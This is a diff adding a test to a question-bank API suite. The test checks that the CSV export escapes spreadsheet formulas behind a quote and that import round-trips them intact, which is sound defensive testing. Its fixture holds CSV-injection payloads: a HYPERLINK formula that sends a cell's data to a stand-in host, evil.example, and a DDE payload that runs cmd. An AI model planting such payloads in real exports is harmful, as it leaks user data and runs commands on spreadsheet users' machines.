@@ -268,5 +268,48 @@ describe('the question bank', () => {
         expect(strip(copied), format).toEqual(strip(source));
       }
     });
+
+    it('exports a teacher’s text a spreadsheet would run as a formula behind a quote, and imports it back as it was', async () => {
+      const newModule = async (title: string) =>
+        (
+          (
+            await call('POST', `/api/admin/papers/${paperId}/modules`, teacher.token, {
+              title,
+              description: '',
+              duration: null,
+              isFreePreview: false,
+            })
+          ).json() as { id: number }
+        ).id;
+      const hostile = {
+        text: '=HYPERLINK("https://evil.example/?leak="&B2,"Open")',
+        options: ["-2+3+cmd|' /C calc'!A0", '+2', '@SUM(1,1)', 'plain'],
+        correctOption: 1,
+        solution: '-b over 2a',
+      };
+      const from = await newModule('Formulas');
+      expect((await call('POST', listUrl(from), teacher.token, hostile)).statusCode).toBe(201);
+      const exported = await call(
+        'GET',
+        `/api/admin/modules/${from}/questions/export?category=special_exam&format=csv`,
+        teacher.token,
+      );
+      expect(exported.statusCode, exported.body).toBe(200);
+      const line = exported.body.split('\r\n')[1]!;
+      expect(line).toBe(
+        `"'=HYPERLINK(""https://evil.example/?leak=""&B2,""Open"")","'-2+3+cmd|' /C calc'!A0","'+2","'@SUM(1,1)",plain,,,2,"'-b over 2a",`,
+      );
+
+      const to = await newModule('Formulas copied');
+      const imported = await call('POST', importUrl(false), teacher.token, {
+        moduleId: to,
+        category: 'special_exam',
+        format: 'csv',
+        text: exported.body,
+      });
+      expect(imported.json()).toMatchObject({ written: 1, invalid: 0 });
+      const copied = ((await call('GET', listUrl(to), teacher.token)).json() as TAdminQuestionList).questions;
+      expect(copied).toEqual([expect.objectContaining(hostile)]);
+    });
   });
 });
